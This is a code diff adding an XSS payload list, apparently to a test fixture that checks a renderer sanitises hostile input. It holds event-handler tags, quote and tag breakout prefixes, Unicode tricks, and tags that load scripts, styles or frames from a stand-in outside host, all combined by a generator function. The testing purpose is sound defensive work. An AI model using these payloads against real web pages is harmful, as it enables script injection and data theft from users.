@@ -63,3 +63,36 @@ HOSTILE = (
     f"\x00<script>{RUN}</script>",
     f"&\"'<>`{{}}$%\\/ {RUN}",
 )
+
+_TAGS = (
+    "<img src=x onerror={}>", "<svg onload={}>", "<svg/onload={}>", "<body onpageshow={}>", "<details open ontoggle={}>", "<input autofocus onfocus={}>",
+    "<select autofocus onfocus={}>", "<textarea autofocus onfocus={}>", "<video src=x onerror={}>", "<audio src=x onerror={}>",
+    "<object data=x onerror={}>", "<marquee onstart={}>", "<iframe onload={}>", "<style onload={}></style>", "<a href=javascript:{} autofocus onfocus={}>x</a>",
+    "<svg><animate onbegin={} attributeName=x dur=1s>", "<svg><set onbegin={} attributeName=x>", "<button autofocus onfocus={}>x</button>",
+    "<script>{}</script>", "<form action=javascript:{}><button autofocus onfocus={}>", "<embed src=javascript:{}>", "<p onmouseover={} style=position:fixed;inset:0>x",
+    "<math><maction actiontype=x xlink:href=javascript:{}>x</maction></math>", "<picture><source srcset=x><img onerror={} src=x></picture>",
+)  # fmt: skip
+_BREAKOUTS = (
+    "{}",
+    '">{}',
+    "'>{}",
+    "</script>{}",
+    "`}}{}",
+    "</textarea></title></style>{}",
+    "\u2028{}",
+    "\u202e{}",
+    "--></option>{}",
+)
+OUTSIDE = (
+    "<img src=http://outside.invalid/i>", "<script src=//outside.invalid/s></script>", "<link rel=stylesheet href=//outside.invalid/c>",
+    "<iframe src=http://outside.invalid/f></iframe>", "<svg><image href=http://outside.invalid/v></svg>", "<video poster=//outside.invalid/p>",
+    "<style>@import '//outside.invalid/u';*{background:url(//outside.invalid/b)}</style>", "url(http://outside.invalid/w)", "![x](http://outside.invalid/m)",
+    "<meta http-equiv=refresh content='0;url=http://outside.invalid/'>", "<base href=http://outside.invalid/>", "[x](javascript:window.ran=1)",
+    ":material/x: <object data=//outside.invalid/o>", "$\\href{javascript:window.ran=1}{x}$", "<embed src=//outside.invalid/e>",
+)  # fmt: skip
+
+
+def payloads():
+    """Return every hostile text once: the ones above, made ones of tag and way out, and those that ask other hosts."""
+    made = [way.replace("{}", tag.replace("{}", RUN)) for tag in _TAGS for way in _BREAKOUTS]
+    return tuple(dict.fromkeys((*HOSTILE, *OUTSIDE, *made)))
